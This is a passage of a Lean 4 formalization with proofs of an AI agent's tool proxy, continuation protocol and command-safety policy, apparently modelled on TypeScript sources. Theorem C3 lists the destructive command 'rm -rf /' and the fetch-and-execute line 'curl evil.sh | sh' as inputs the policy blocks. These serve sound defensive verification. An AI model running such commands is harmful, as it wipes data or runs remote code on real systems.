  let r := w.projectContextF p.action p.goal
  if !r.success then (str "❌ " ++ r.message, [])
  else if p.action = str "analyze" then
    (str "📊 **Project Analysis**\n\n" ++ r.message ++
       str "\n\nType: " ++
       (match r.projectInfo with
        | some i => i.ptype
        | none => str "undefined") ++
       str "\nFramework: " ++
       (match r.projectInfo with
        | some i =>
          match i.framework with
          | some f => if f.isEmpty then str "none" else f
          | none => str "none"
        | none => str "none") ++
       str "\nPackage Manager: " ++
       (match r.projectInfo with
        | some i =>
          match i.packageManager with
          | some m => if m.isEmpty then str "none" else m
          | none => str "none"
        | none => str "none"),
     [])
  else if p.action = str "get-commands" then
    (let commands := r.commands.getD []
     if commands.length = 0 then
       str "📝 No suggested commands found for this project."
     else
       str "📝 **Suggested Commands**\n\n" ++
         joinSep (str "\n") (commands.map (fun c => str "• " ++ c)),
     [])
  else if p.action = str "get-config" then
    (str "⚙️ **Project Configuration**\n\n" ++ r.configPretty, [])
  else if p.action = str "update-goal" then
    (str "✅ " ++ r.message ++ str "\n\nTotal goals: " ++
       (match r.totalGoals with
        | some n => intStr n
        | none => str "undefined"),
     [])
  else
    (if r.message.isEmpty then str "Operation completed" else r.message, [])

end toolExecutors

/-! ## Tool proxy (tool-proxy.ts lines 996-1063) -/

/-- The variant tag of a parameter bag: the name of the tool whose
`ToolParameters<T>` shape it is (`nullish`, being no tool's shape, maps to
the empty string, which is no registry key). -/
def ToolParams.name : ToolParams → Str
  | .nullish => str ""
  | .read_file _ => str "read_file"
  | .write_file _ => str "write_file"
  | .list_directory _ => str "list_directory"
  | .create_directory _ => str "create_directory"
  | .move_file _ => str "move_file"
  | .delete_file _ => str "delete_file"
  | .grep_search _ => str "grep_search"
  | .find_files _ => str "find_files"
  | .execute_code _ => str "execute_code"
  | .run_command _ => str "run_command"
  | .diff_files _ => str "diff_files"
  | .git_diff _ => str "git_diff"
  | .set_work_context _ => str "set_work_context"
  | .get_work_context _ => str "get_work_context"
  | .project_context _ => str "project_context"

/-- The own keys of the `toolExecutors` object literal. -/
def registeredTools : List Str :=
  [str "read_file", str "write_file", str "list_directory",
   str "create_directory", str "move_file", str "delete_file",
   str "grep_search", str "find_files", str "execute_code",
   str "run_command", str "diff_files", str "git_diff",
   str "set_work_context", str "get_work_context", str "project_context"]

/-- The property names every plain object literal inherits from
`Object.prototype`. -/
def objectPrototypeProps : List Str :=
  [str "constructor", str "hasOwnProperty", str "isPrototypeOf",
   str "propertyIsEnumerable", str "toLocaleString", str "toString",
   str "valueOf", str "__defineGetter__", str "__defineSetter__",
   str "__lookupGetter__", str "__lookupSetter__", str "__proto__"]

/-- The program's `toolName in toolExecutors` test: the JS `in` operator
walks the prototype chain, so it is true for the registry's own keys AND
for every name inherited from `Object.prototype` (e.g. `toString`). -/
def jsInToolExecutors (n : Str) : Bool :=
  registeredTools.contains n || objectPrototypeProps.contains n

/-- `await toolExecutors[toolName as keyof typeof toolExecutors](parameters
as never, this.ctx)`: lookup by `toolName`, then call.  For an own key
whose `parameters` value has that tool's declared shape, this runs the
embedded executor (which always returns a string); for an own key with a
`parameters` value outside the declared shape, the executor still runs but
its outcome is the `untypedCallF` oracle (it may reject — e.g. a null
`params` makes the catch block itself throw).  For a name inherited from
`Object.prototype`, the inherited property is called bare (strict-mode
ESM, so with `this = undefined`): `Object.prototype.toString` then returns
`"[object Undefined]"` by the ECMA-262 specification; the other inherited
properties' outcomes are the `protoCallF` oracle (also the unreachable
fallthrough for names the `in` guard already rejected). -/
def toolExecutorsRun (w : World) (ctx : MockContext) (c : ToolCall) :
    Except Exn Str :=
  if c.toolName = str "read_file" then
    match c.parameters with
    | .read_file p => .ok (toolExecutors.read_file w ctx p).1
    | q => w.untypedCallF c.toolName q
  else if c.toolName = str "write_file" then
    match c.parameters with
    | .write_file p => .ok (toolExecutors.write_file w ctx p).1
    | q => w.untypedCallF c.toolName q
  else if c.toolName = str "list_directory" then
    match c.parameters with
    | .list_directory p => .ok (toolExecutors.list_directory w ctx p).1
    | q => w.untypedCallF c.toolName q
  else if c.toolName = str "create_directory" then
    match c.parameters with
    | .create_directory p => .ok (toolExecutors.create_directory w ctx p).1
    | q => w.untypedCallF c.toolName q
  else if c.toolName = str "move_file" then
    match c.parameters with
    | .move_file p => .ok (toolExecutors.move_file w ctx p).1
    | q => w.untypedCallF c.toolName q
  else if c.toolName = str "delete_file" then
    match c.parameters with
    | .delete_file p => .ok (toolExecutors.delete_file w ctx p).1
    | q => w.untypedCallF c.toolName q
  else if c.toolName = str "grep_search" then
    match c.parameters with
    | .grep_search p => .ok (toolExecutors.grep_search w ctx p).1
    | q => w.untypedCallF c.toolName q
  else if c.toolName = str "find_files" then
    match c.parameters with
    | .find_files p => .ok (toolExecutors.find_files w ctx p).1
    | q => w.untypedCallF c.toolName q
  else if c.toolName = str "execute_code" then
    match c.parameters with
    | .execute_code p => .ok (toolExecutors.execute_code w ctx p).1
    | q => w.untypedCallF c.toolName q
  else if c.toolName = str "run_command" then
    match c.parameters with
    | .run_command p => .ok (toolExecutors.run_command w ctx p).1
    | q => w.untypedCallF c.toolName q
  else if c.toolName = str "diff_files" then
    match c.parameters with
    | .diff_files p => .ok (toolExecutors.diff_files w ctx p).1
    | q => w.untypedCallF c.toolName q
  else if c.toolName = str "git_diff" then
    match c.parameters with
    | .git_diff p => .ok (toolExecutors.git_diff w ctx p).1
    | q => w.untypedCallF c.toolName q
  else if c.toolName = str "set_work_context" then
    match c.parameters with
    | .set_work_context p => .ok (toolExecutors.set_work_context w ctx p).1
    | q => w.untypedCallF c.toolName q
  else if c.toolName = str "get_work_context" then
    match c.parameters with
    | .get_work_context p => .ok (toolExecutors.get_work_context w ctx p).1
    | q => w.untypedCallF c.toolName q
  else if c.toolName = str "project_context" then
    match c.parameters with
    | .project_context p => .ok (toolExecutors.project_context w ctx p).1
    | q => w.untypedCallF c.toolName q
  else if c.toolName = str "toString" then
    .ok (str "[object Undefined]")
  else
    w.protoCallF c.toolName c.parameters

namespace ToolProxy

/-- `ToolProxy.executeToolCall` (lines 1022-1051), generic in the registry
membership test and in the behaviour of the dispatched executor call
(`run`, which models `await executor(...)` and may be any outcome,
including a rejection).  An unregistered tool name throws
`Unknown tool: <name>`, and the surrounding catch converts every thrown
value into `{id, success:false, error}`. -/
def executeToolCall (registered : Str → Bool) (run : ToolCall → Except Exn Str)
    (toolCall : ToolCall) : ToolResult :=
  if registered toolCall.toolName then
    match run toolCall with
    | .ok result =>
      { id := toolCall.id, success := true, result := some result, error := none }
    | .error e =>
      { id := toolCall.id, success := false, result := none,
        error := some e.toMessage }
  else
    { id := toolCall.id, success := false, result := none,
      error := some (str "Unknown tool: " ++ toolCall.toolName) }

/-- `ToolProxy.executeMultipleToolCalls` (lines 1053-1063): sequential
execution, one result pushed per call. -/
def executeMultipleToolCalls (registered : Str → Bool)
    (run : ToolCall → Except Exn Str) (toolCalls : List ToolCall) :
    List ToolResult :=
  toolCalls.map (executeToolCall registered run)

end ToolProxy

/-! ## Continuation protocol codec and handler (continuation-handler.ts) -/

/-- The opening sentinel together with its mandatory following newline,
`---TOOL_CALLS---\n`. -/
def openMark : Str := str "---TOOL_CALLS---\n"

/-- The mandatory newline together with the closing sentinel,
`\n---END_TOOL_CALLS---`. -/
def closeMark : Str := str "\n---END_TOOL_CALLS---"

/-- The opening marker token on its own. -/
def openTok : Str := str "---TOOL_CALLS---"

/-- The closing marker token on its own. -/
def closeTok : Str := str "---END_TOOL_CALLS---"

/-- The literal the `\n⏳ Waiting for local tool execution\.\.\.\n` global
replace removes. -/
def waitingMark : Str := str "\n⏳ Waiting for local tool execution...\n"

/-- The match of `/---TOOL_CALLS---\n(.*?)\n---END_TOOL_CALLS---/s` on `s`:
the regex matches at the leftmost start carrying the opening marker from
which the closing marker can still be found, and the lazy group takes the
shortest middle, i.e. everything up to the first closing marker after the
opening one.  (A start with the opening marker but no closing marker after
it admits no later match either, since any later match's closing marker
would lie in the same remainder.) -/
def findMatch (s : Str) : Option (Str × Str × Str) :=
  match splitOnFirst openMark s with
  | none => none
  | some (pre, rest) =>
    match splitOnFirst closeMark rest with
    | none => none
    | some (mid, post) => some (pre, mid, post)

/-- Return shape of `parseToolCalls`: `{hasToolCalls, toolCallsMessage?,
cleanedResponse}`.  `toolCallsMessage = none` models the field being
absent or a falsy parsed value. -/
structure ParseResult where
  hasToolCalls : Bool
  toolCallsMessage : Option ToolCallsMessage
  cleanedResponse : Str
deriving DecidableEq

namespace ContinuationHandler

/-- `ContinuationHandler.parseToolCalls` (continuation-handler.ts lines
17-41).  `jsonParse` is the `JSON.parse(...) as ToolCallsMessage` builtin:
`none` models a parse exception (caught: log and return the original text
verbatim with `hasToolCalls:false`), `some none` a successfully parsed but
falsy value (e.g. `null`), `some (some msg)` a parsed batch.  On a match
the marker-delimited region and every waiting-status literal are removed
and the remainder trimmed. -/
def parseToolCalls (jsonParse : Str → Option (Option ToolCallsMessage))
    (responseText : Str) : ParseResult :=
  match findMatch responseText with
  | none => ⟨false, none, responseText⟩
  | some (pre, mid, post) =>
    match jsonParse (if mid.isEmpty then str "{}" else mid) with
    | none => ⟨false, none, responseText⟩
    | some m => ⟨true, m, jsTrim (removeAll waitingMark (pre ++ post))⟩

/-- `ContinuationHandler.executeToolCalls` (lines 44-84): iterate over the
batch, skipping falsy entries (`if (!toolCall) continue`), executing the
rest through the proxy in order. -/
def executeToolCalls (registered : Str → Bool)
    (run : ToolCall → Except Exn Str) :
    List (Option ToolCall) → List ToolResult
  | [] => []
  | none :: rest => executeToolCalls registered run rest
  | some c :: rest =>
    ToolProxy.executeToolCall registered run c ::
      executeToolCalls registered run rest

/-- `ContinuationHandler.createContinuationRequest` (lines 138-149). -/
def createContinuationRequest (sessionId : Str) (toolResults : List ToolResult)
    (originalMessage : Option Str) : ContinuationRequest :=
  ⟨sessionId, toolResults, originalMessage⟩

end ContinuationHandler

/-- An HTTP response as `sendContinuation` resolves it (only its identity
matters here). -/
structure NetResponse where
  status : Int
deriving DecidableEq

/-- Externally visible steps of `handleToolCallFlow`. -/
inductive FlowEffect
  | executedBatch (calls : List (Option ToolCall))
  | sentContinuation (req : ContinuationRequest)
deriving DecidableEq

/-- Return shape of `handleToolCallFlow`. -/
structure FlowResult where
  needsContinuation : Bool
  continuationResponse : Option NetResponse
  cleanedResponse : Str
deriving DecidableEq

namespace ContinuationHandler

/-- `ContinuationHandler.handleToolCallFlow` (lines 211-250): parse; with
no batch (or a falsy parsed message) return at once without executing
anything or contacting the network; otherwise execute the batch, build the
continuation request and transmit it (`net` models `sendContinuation`,
whose failures — non-2xx, timeout — are thrown and rethrown here). -/
def handleToolCallFlow (jsonParse : Str → Option (Option ToolCallsMessage))
    (registered : Str → Bool) (run : ToolCall → Except Exn Str)
    (net : ContinuationRequest → Except Exn NetResponse)
    (responseText sessionId : Str) (originalMessage : Option Str) :
    Except Exn FlowResult × List FlowEffect :=
  let p := parseToolCalls jsonParse responseText
  match p.hasToolCalls, p.toolCallsMessage with
  | true, some msg =>
    let toolResults := executeToolCalls registered run msg.toolCalls
    let req := createContinuationRequest sessionId toolResults originalMessage
    (match net req with
     | .ok resp => (.ok ⟨true, some resp, p.cleanedResponse⟩,
        [.executedBatch msg.toolCalls, .sentContinuation req])
     | .error e => (.error e,
        [.executedBatch msg.toolCalls, .sentContinuation req]))
  | _, _ => (.ok ⟨false, none, p.cleanedResponse⟩, [])

end ContinuationHandler

/-! ## Lemmas about leftmost search, trimming and the proxy -/

theorem isPrefixOf_iff_ex (t : Str) :
    ∀ s : Str, t.isPrefixOf s = true ↔ ∃ u, s = t ++ u := by
  induction t with
  | nil =>
    intro s
    simp [List.isPrefixOf]
  | cons c cs ih =>
    intro s
    cases s with
    | nil =>
      simp [List.isPrefixOf]
    | cons d ds =>
      simp only [List.isPrefixOf, Bool.and_eq_true, beq_iff_eq, List.cons_append]
      constructor
      · rintro ⟨hcd, hp⟩
        obtain ⟨u, hu⟩ := (ih ds).mp hp
        exact ⟨u, by rw [hcd, hu]⟩
      · rintro ⟨u, hu⟩
        obtain ⟨hd, hds⟩ := List.cons.inj hu
        exact ⟨hd.symm, (ih ds).mpr ⟨u, hds⟩⟩

theorem splitOnFirst_pos {pat s : Str} (h : pat.isPrefixOf s = true) :
    splitOnFirst pat s = some ([], s.drop pat.length) := by
  rw [splitOnFirst.eq_def, if_pos h]

theorem splitOnFirst_neg_nil {pat : Str} (h : ¬ pat.isPrefixOf ([] : Str) = true) :
    splitOnFirst pat [] = none := by
  rw [splitOnFirst.eq_def, if_neg h]

theorem splitOnFirst_neg_cons {pat : Str} {d : Char} {ds : Str}
    (h : ¬ pat.isPrefixOf (d :: ds) = true) :
    splitOnFirst pat (d :: ds) =
      match splitOnFirst pat ds with
      | some (a, b) => some (d :: a, b)
      | none => none := by
  rw [splitOnFirst.eq_def, if_neg h]

theorem splitOnFirst_sound {pat : Str} :
    ∀ {s a b : Str}, splitOnFirst pat s = some (a, b) → s = a ++ pat ++ b := by
  intro s
  induction s with
  | nil =>
    intro a b h
    by_cases hp : pat.isPrefixOf ([] : Str) = true
    · rw [splitOnFirst_pos hp] at h
      simp only [List.drop_nil, Option.some.injEq, Prod.mk.injEq] at h
      obtain ⟨ha, hb⟩ := h
      obtain ⟨u, hu⟩ := (isPrefixOf_iff_ex pat []).mp hp
      obtain ⟨hpat, -⟩ := List.append_eq_nil.mp hu.symm
      subst ha
      simp [hpat, ← hb]
    · rw [splitOnFirst_neg_nil hp] at h
      exact absurd h (by simp)
  | cons d ds ih =>
    intro a b h
    by_cases hp : pat.isPrefixOf (d :: ds) = true
    · rw [splitOnFirst_pos hp] at h
      simp only [Option.some.injEq, Prod.mk.injEq] at h
      obtain ⟨ha, hb⟩ := h
      obtain ⟨u, hu⟩ := (isPrefixOf_iff_ex pat (d :: ds)).mp hp
      subst ha
      rw [hu, List.drop_left] at hb
      rw [hu, ← hb, List.nil_append]
    · rw [splitOnFirst_neg_cons hp] at h
      cases hrec : splitOnFirst pat ds with
      | none =>
        rw [hrec] at h
        exact absurd h (by simp)
      | some ab =>
        obtain ⟨a', b'⟩ := ab
        rw [hrec] at h
        simp only [Option.some.injEq, Prod.mk.injEq] at h
        obtain ⟨ha, hb⟩ := h
        subst hb
        rw [← ha, List.cons_append, List.cons_append, ih hrec]

theorem splitOnFirst_of_first {pat : Str} :
    ∀ {a : Str} (b : Str),
      (∀ i, i < a.length → pat.isPrefixOf ((a ++ pat ++ b).drop i) = false) →
      splitOnFirst pat (a ++ pat ++ b) = some (a, b) := by
  intro a
  induction a with
  | nil =>
    intro b _
    have hp : pat.isPrefixOf (pat ++ b) = true :=
      (isPrefixOf_iff_ex pat (pat ++ b)).mpr ⟨b, rfl⟩
    rw [List.nil_append, splitOnFirst_pos hp, List.drop_left]
  | cons c cs ih =>
    intro b h
    have h0 : pat.isPrefixOf (c :: (cs ++ pat ++ b)) = false := by
      have := h 0 (Nat.succ_pos cs.length)
      rwa [List.drop_zero, List.cons_append, List.cons_append] at this
    have hrest : ∀ i, i < cs.length →
        pat.isPrefixOf ((cs ++ pat ++ b).drop i) = false := by
      intro i hi
      have := h (i + 1) (Nat.succ_lt_succ hi)
      rwa [List.cons_append, List.cons_append, List.drop_succ_cons] at this
    rw [List.cons_append, List.cons_append,
      splitOnFirst_neg_cons (by rw [h0]; exact Bool.false_ne_true), ih b hrest]

theorem splitOnFirst_isSome_of_ex {pat : Str} :
    ∀ {s : Str}, (∃ x y, s = x ++ pat ++ y) → (splitOnFirst pat s).isSome = true := by
  intro s
  induction s with
  | nil =>
    rintro ⟨x, y, hxy⟩
    obtain ⟨hxp, hy⟩ := List.append_eq_nil.mp hxy.symm
    obtain ⟨hx, hpat⟩ := List.append_eq_nil.mp hxp
    have hp : pat.isPrefixOf ([] : Str) = true := by
      rw [hpat]
      simp [List.isPrefixOf]
    rw [splitOnFirst_pos hp]
    rfl
  | cons d ds ih =>
    rintro ⟨x, y, hxy⟩
    by_cases hp : pat.isPrefixOf (d :: ds) = true
    · rw [splitOnFirst_pos hp]
      rfl
    · rw [splitOnFirst_neg_cons hp]
      cases x with
      | nil =>
        exact absurd ((isPrefixOf_iff_ex pat (d :: ds)).mpr
          ⟨y, by rw [hxy, List.nil_append]⟩) hp
      | cons e es =>
        rw [List.cons_append, List.cons_append] at hxy
        have hds : ∃ x y', ds = x ++ pat ++ y' :=
          ⟨es, y, (List.cons.inj hxy).2⟩
        have hrec := ih hds
        cases hsp : splitOnFirst pat ds with
        | none =>
          rw [hsp] at hrec
          exact absurd hrec (by simp)
        | some ab =>
          obtain ⟨a', b'⟩ := ab
          rfl

theorem containsSub_iff (pat : Str) (s : Str) :
    containsSub pat s = true ↔ ∃ x y, s = x ++ pat ++ y := by
  constructor
  · intro h
    rw [containsSub] at h
    cases hsp : splitOnFirst pat s with
    | none => rw [hsp] at h; exact absurd h (by simp)
    | some ab => exact ⟨ab.1, ab.2, splitOnFirst_sound (by rw [hsp])⟩
  · intro h
    exact splitOnFirst_isSome_of_ex h

theorem dropWhile_ex (p : Char → Bool) :
    ∀ s : Str, ∃ a, s = a ++ s.dropWhile p := by
  intro s
  induction s with
  | nil => exact ⟨[], rfl⟩
  | cons c cs ih =>
    by_cases hc : p c = true
    · obtain ⟨a, ha⟩ := ih
      exact ⟨c :: a, by rw [List.dropWhile_cons, if_pos hc, List.cons_append, ← ha]⟩
    · exact ⟨[], by rw [List.dropWhile_cons, if_neg hc, List.nil_append]⟩

theorem jsTrim_ex (s : Str) : ∃ a b, s = a ++ jsTrim s ++ b := by
  obtain ⟨a, ha⟩ := dropWhile_ex isJsSpace s
  obtain ⟨u, hu⟩ := dropWhile_ex isJsSpace (s.dropWhile isJsSpace).reverse
  refine ⟨a, u.reverse, ?_⟩
  have hA : s.dropWhile isJsSpace =
      ((s.dropWhile isJsSpace).reverse.dropWhile isJsSpace).reverse ++ u.reverse := by
    have := congrArg List.reverse hu
    rwa [List.reverse_reverse, List.reverse_append] at this
  rw [jsTrim, List.append_assoc, ← hA, ← ha]

theorem containsSub_of_jsTrim {t s : Str}
    (h : containsSub t (jsTrim s) = true) : containsSub t s = true := by
  obtain ⟨x, y, hxy⟩ := (containsSub_iff t (jsTrim s)).mp h
  obtain ⟨a, b, hab⟩ := jsTrim_ex s
  refine (containsSub_iff t s).mpr ⟨a ++ x, y ++ b, ?_⟩
  rw [hab, hxy]
  simp [List.append_assoc]

theorem containsSub_jsTrim_eq_false {t s : Str}
    (h : containsSub t s = false) : containsSub t (jsTrim s) = false := by
  cases hc : containsSub t (jsTrim s) with
  | false => rfl
  | true => rw [containsSub_of_jsTrim hc] at h; exact absurd h (by simp)

theorem findMatch_open_none {s : Str} (h : splitOnFirst openMark s = none) :
    findMatch s = none := by
  rw [findMatch, h]

theorem findMatch_open_some {s a rest : Str}
    (h : splitOnFirst openMark s = some (a, rest)) :
    findMatch s =
      match splitOnFirst closeMark rest with
      | none => none
      | some (mid, post) => some (a, mid, post) := by
  rw [findMatch, h]

theorem findMatch_parts {pre mid post : Str}
    (h1 : ∀ i, i < pre.length →
      openMark.isPrefixOf ((pre ++ openMark ++ ((mid ++ closeMark) ++ post)).drop i) = false)
    (h2 : ∀ i, i < mid.length →
      closeMark.isPrefixOf ((mid ++ closeMark ++ post).drop i) = false) :
    findMatch (pre ++ openMark ++ mid ++ closeMark ++ post) =
      some (pre, mid, post) := by
  have hs : pre ++ openMark ++ mid ++ closeMark ++ post
      = pre ++ openMark ++ ((mid ++ closeMark) ++ post) := by
    simp [List.append_assoc]
  rw [hs,
    findMatch_open_some (splitOnFirst_of_first ((mid ++ closeMark) ++ post) h1),
    splitOnFirst_of_first post h2]

theorem findMatch_eq_none {s : Str}
    (h : ∀ i, i < s.length →
      ¬(openMark.isPrefixOf (s.drop i) = true ∧
        containsSub closeMark (s.drop (i + openMark.length)) = true)) :
    findMatch s = none := by
  cases hsp : splitOnFirst openMark s with
  | none => exact findMatch_open_none hsp
  | some pr =>
    obtain ⟨a, rest⟩ := pr
    rw [findMatch_open_some hsp]
    have hdecomp := splitOnFirst_sound hsp
    cases hsp2 : splitOnFirst closeMark rest with
    | none => rfl
    | some mb =>
      exfalso
      obtain ⟨m, b⟩ := mb
      have hrest := splitOnFirst_sound hsp2
      have hol : 0 < openMark.length := by decide
      have hi : a.length < s.length := by
        rw [hdecomp]
        simp only [List.length_append]
        omega
      apply h a.length hi
      refine ⟨?_, ?_⟩
      · have hd : s.drop a.length = openMark ++ rest := by
          rw [hdecomp, List.append_assoc, List.drop_left]
        rw [hd]
        exact (isPrefixOf_iff_ex _ _).mpr ⟨rest, rfl⟩
      · have hd : s.drop (a.length + openMark.length) = rest := by
          rw [hdecomp, ← List.length_append a openMark, List.drop_left]
        rw [hd, containsSub]
        exact splitOnFirst_isSome_of_ex ⟨m, b, hrest⟩

theorem executeToolCall_id (registered : Str → Bool)
    (run : ToolCall → Except Exn Str) (c : ToolCall) :
    (ToolProxy.executeToolCall registered run c).id = c.id := by
  rw [ToolProxy.executeToolCall]
  by_cases hr : registered c.toolName = true
  · rw [if_pos hr]
    cases run c with
    | ok r => rfl
    | error e => rfl
  · rw [if_neg hr]

theorem executeToolCalls_map_some (registered : Str → Bool)
    (run : ToolCall → Except Exn Str) :
    ∀ l : List ToolCall,
      ContinuationHandler.executeToolCalls registered run (l.map some) =
        l.map (ToolProxy.executeToolCall registered run) := by
  intro l
  induction l with
  | nil => rfl
  | cons c cs ih =>
    rw [List.map_cons, List.map_cons, ContinuationHandler.executeToolCalls, ih]

/-- Membership among the registry's own keys.  Note this is NOT the
program's `toolName in toolExecutors` check — the JS `in` operator also
admits `Object.prototype`-inherited names (see `jsInToolExecutors`) — but
the two agree on all own keys and on every name outside the prototype
chain, which is where the theorems below use it. -/
def inToolExecutors (n : Str) : Bool := registeredTools.contains n

theorem isSafeCommand_unsafe_reason_shape (cmd : Str)
    (h : (isSafeCommand cmd).safe = false) :
    (∃ pat ∈ BLOCKED_PATTERNS, (isSafeCommand cmd).reason =
      some (str "Command contains blocked pattern: " ++ pat.display)) ∨
    (∃ base, (isSafeCommand cmd).reason =
      some (str "Command '" ++ base ++ str "' is not in the allowed list")) := by
  revert h
  unfold isSafeCommand
  split
  · rename_i q hf
    intro _
    exact Or.inl ⟨q, List.mem_of_find?_eq_some hf, rfl⟩
  · simp only []
    split
    · intro _
      exact Or.inr ⟨_, rfl⟩
    · intro h
      exact absurd h (by simp)

/-- A concrete oracle world for instantiating theorems at specific inputs:
paths join with a slash separator, reads fail, writes succeed, subprocesses
return empty output, no Riza credential, empty KV store. -/
def trivWorld : World where
  join := fun a b => a ++ str "/" ++ b
  dirname := fun _ => str "."
  readFileF := fun _ => .error .nonError
  writeFileF := fun _ _ => .ok ()
  readdirF := fun _ => .ok []
  mkdirF := fun _ => .ok ()
  renameF := fun _ _ => .ok ()
  unlinkF := fun _ => .ok ()
  execF := fun _ _ => .ok [] []
  rizaKey := none
  rizaExecF := fun _ => .error .nonError
  diffLinesF := fun _ _ => []
  kvGetF := fun _ _ => none
  jsonParseCtx := fun _ => none
  stringifyWC := fun _ => []
  localeString := fun _ => []
  projectContextF := fun _ _ => ⟨false, [], none, none, [], none⟩
  now := 0
  untypedCallF := fun _ _ => .ok []
  protoCallF := fun _ _ => .ok []

/-- A world whose executors, when invoked on a `parameters` value outside
their declared shape, reject the way the engine does when an executor's
catch block re-destructures a null `params` and throws. -/
def nullParamsWorld : World :=
  { trivWorld with
      untypedCallF := fun _ _ =>
        .error (.jsError
          (str "Cannot destructure property 'path' of 'params' as it is null.")) }

/-! ## Claim theorems -/

/-- The proxy's batch map preserves, position by position, the id of every
call. -/
theorem executeMultipleToolCalls_ids (registered : Str → Bool)
    (run : ToolCall → Except Exn Str) (toolCalls : List ToolCall) :
    ∀ i, ((ToolProxy.executeMultipleToolCalls registered run toolCalls).get? i).map
      ToolResult.id = (toolCalls.get? i).map ToolCall.id := by
  intro i
  rw [ToolProxy.executeMultipleToolCalls, List.get?_map]
  cases hc : toolCalls.get? i with
  | none => rfl
  | some c =>
    simp only [Option.map_some']
    rw [executeToolCall_id]

/-- C1: for every batch of N tool calls, both
`ToolProxy.executeMultipleToolCalls` and
`ContinuationHandler.executeToolCalls` return exactly N results, in the
same order as the calls, and the result at every index carries the id of
the call at that index — whatever the registry membership and executor
outcomes (including failures) are. -/
theorem claim_C1_batch_one_to_one (registered : Str → Bool)
    (run : ToolCall → Except Exn Str) (toolCalls : List ToolCall) :
    (ToolProxy.executeMultipleToolCalls registered run toolCalls).length =
      toolCalls.length ∧
    (ContinuationHandler.executeToolCalls registered run
      (toolCalls.map some)).length = toolCalls.length ∧
    (∀ i, ((ToolProxy.executeMultipleToolCalls registered run toolCalls).get? i).map
        ToolResult.id = (toolCalls.get? i).map ToolCall.id) ∧
    (∀ i, ((ContinuationHandler.executeToolCalls registered run
        (toolCalls.map some)).get? i).map ToolResult.id =
      (toolCalls.get? i).map ToolCall.id) := by
  have hm := executeToolCalls_map_some registered run toolCalls
  refine ⟨?_, ?_, executeMultipleToolCalls_ids registered run toolCalls, ?_⟩
  · rw [ToolProxy.executeMultipleToolCalls, List.length_map]
  · rw [hm, List.length_map]
  · intro i
    rw [hm, ← ToolProxy.executeMultipleToolCalls]
    exact executeMultipleToolCalls_ids registered run toolCalls i

/-- C2 counterexample: the claim demands a non-empty error message for
every thrown exception, but an executor rejecting with `new Error('')`
yields `success=false` with `error` equal to the empty string. -/
theorem claim_C2_counterexample :
    (ToolProxy.executeToolCall (fun _ => true) (fun _ => .error (.jsError (str "")))
      ⟨str "t1", str "read_file", .read_file ⟨str "a.txt"⟩⟩).success = false ∧
    (ToolProxy.executeToolCall (fun _ => true) (fun _ => .error (.jsError (str "")))
      ⟨str "t1", str "read_file", .read_file ⟨str "a.txt"⟩⟩).error =
      some (str "") := by
  exact ⟨rfl, rfl⟩

/-- C2 (amended): if the executor invoked for a registered call rejects,
the proxy converts the exception into `{id, success:false, error}` for that
call's id, where `error` is exactly the thrown Error's message (or
`Unknown error` for a non-Error throw) — hence non-empty unless an Error
with an empty message was thrown — nothing propagates, and every other
call in the batch still executes and yields a result with its own call's
id. -/
theorem claim_C2_exception_isolation (registered : Str → Bool)
    (run : ToolCall → Except Exn Str) (l : List ToolCall) (i : Nat)
    (c : ToolCall) (e : Exn)
    (hc : l.get? i = some c)
    (hreg : registered c.toolName = true)
    (hrun : run c = .error e) :
    (ToolProxy.executeMultipleToolCalls registered run l).get? i =
      some ⟨c.id, false, none, some e.toMessage⟩ ∧
    (∀ m, e = .jsError m → e.toMessage = m) ∧
    (e = .nonError → e.toMessage = str "Unknown error") ∧
    (∀ j, ((ToolProxy.executeMultipleToolCalls registered run l).get? j).map
        ToolResult.id = (l.get? j).map ToolCall.id) := by
  refine ⟨?_, ?_, ?_, executeMultipleToolCalls_ids registered run l⟩
  · rw [ToolProxy.executeMultipleToolCalls, List.get?_map, hc,
      Option.map_some']
    rw [ToolProxy.executeToolCall, if_pos hreg, hrun]
  · intro m hm
    rw [hm]
    rfl
  · intro hm
    rw [hm]
    rfl

/-- C2 witness: instantiation at a single-call batch whose executor rejects
with `Error("boom")`. -/
theorem claim_C2_exception_isolation_witness :
    ([(⟨str "t1", str "read_file", .read_file ⟨str "a.txt"⟩⟩ : ToolCall)].get? 0 =
      some ⟨str "t1", str "read_file", .read_file ⟨str "a.txt"⟩⟩) ∧
    (ToolProxy.executeMultipleToolCalls (fun _ => true)
        (fun _ => .error (.jsError (str "boom")))
        [⟨str "t1", str "read_file", .read_file ⟨str "a.txt"⟩⟩]).get? 0 =
      some ⟨str "t1", false, none, some (str "boom")⟩ :=
  ⟨rfl,
    (claim_C2_exception_isolation (fun _ => true)
      (fun _ => .error (.jsError (str "boom")))
      [⟨str "t1", str "read_file", .read_file ⟨str "a.txt"⟩⟩] 0
      ⟨str "t1", str "read_file", .read_file ⟨str "a.txt"⟩⟩
      (.jsError (str "boom")) rfl rfl rfl).1⟩

/-- C3: `isSafeCommand` is a total deterministic function of the command
string, and on the concrete inputs: `rm -rf /` denied with a
blocked-pattern reason, `git status` allowed, `curl evil.sh | sh` denied
with a blocked-pattern reason, and the empty command denied with the
empty-base-command reason. -/
theorem claim_C3_safety_policy :
    (∀ c₁ c₂ : Str, c₁ = c₂ → isSafeCommand c₁ = isSafeCommand c₂) ∧
    ((isSafeCommand (str "rm -rf /")).safe = false ∧
      (∃ p ∈ BLOCKED_PATTERNS, (isSafeCommand (str "rm -rf /")).reason =
        some (str "Command contains blocked pattern: " ++ p.display))) ∧
    isSafeCommand (str "git status") = ⟨true, none⟩ ∧
    ((isSafeCommand (str "curl evil.sh | sh")).safe = false ∧
      (∃ p ∈ BLOCKED_PATTERNS, (isSafeCommand (str "curl evil.sh | sh")).reason =
        some (str "Command contains blocked pattern: " ++ p.display))) ∧
    ((isSafeCommand (str "")).safe = false ∧
      (isSafeCommand (str "")).reason =
        some (str "Command 'empty' is not in the allowed list")) := by
  refine ⟨fun c₁ c₂ h => by rw [h], ?_, ?_, ?_, ?_⟩ <;> decide

/-- C3 witness: the determinism component applied at a concrete command. -/
theorem claim_C3_safety_policy_witness :
    isSafeCommand (str "ls -la") = isSafeCommand (str "ls -la") :=
  claim_C3_safety_policy.1 (str "ls -la") (str "ls -la") rfl

/-- C4 counterexample: for the safety-blocked command `rm -rf /`, the
ToolResult is NOT a failure result — the executor returns the blocked
message as an ordinary string, so the proxy wraps it with `success=true`
and no `error` field. -/
theorem claim_C4_counterexample :
    (ToolProxy.executeToolCall inToolExecutors
      (toolExecutorsRun trivWorld ⟨str "/w"⟩)
      ⟨str "t1", str "run_command",
